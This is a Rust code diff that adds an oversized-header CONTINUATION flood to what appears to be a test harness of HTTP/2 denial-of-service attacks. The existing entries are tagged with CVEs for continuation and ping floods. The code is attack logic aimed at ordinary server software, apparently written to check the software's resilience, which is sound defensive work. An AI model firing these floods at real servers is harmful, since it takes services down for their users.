@@ -76,6 +76,8 @@ pub(crate) const FLOODS: &[Flood] = &[
     // CVE-2024-27316 and its kin.
     Flood { name: "continuations", begin: |a| { let get = a.get.clone(); a.open(0, get); }, step: |a| { let stream = a.stream; a.frame(&Frame::continuation(stream, 0, Block::of(&[("x-a", "b")]))); } },
     Flood { name: "empty continuations", begin: |a| { let get = a.get.clone(); a.open(0, get); }, step: |a| { let stream = a.stream; a.frame(&Frame::continuation(stream, 0, "")); } },
+    // As long as one may be that is refused with an answer.
+    Flood { name: "heads that are far too long", begin: nothing, step: Attack::long_head },
     // CVE-2019-9512.
     Flood { name: "pings", begin: nothing, step: |a| a.frame(&Frame::ping([0; 8])) },
     Flood { name: "answers to no ping", begin: nothing, step: |a| a.frame(&Frame::ping_ack([0; 8])) },
@@ -151,6 +153,16 @@ impl Attack {
     fn get(&mut self) {
         let get = self.get.clone();
         self.open(WHOLE, get);
+    }
+
+    fn long_head(&mut self) {
+        let (get, part) = (self.get.clone(), Block::of(&[("x-a", &"a".repeat(16_000))]).bytes());
+        self.open(flag::END_STREAM, get);
+        for number in 1..=16 {
+            let flags = if number == 16 { flag::END_HEADERS } else { 0 };
+            let frame = Frame::continuation(self.stream, flags, part.clone());
+            self.frame(&frame);
+        }
     }
 
     fn post(&mut self) {
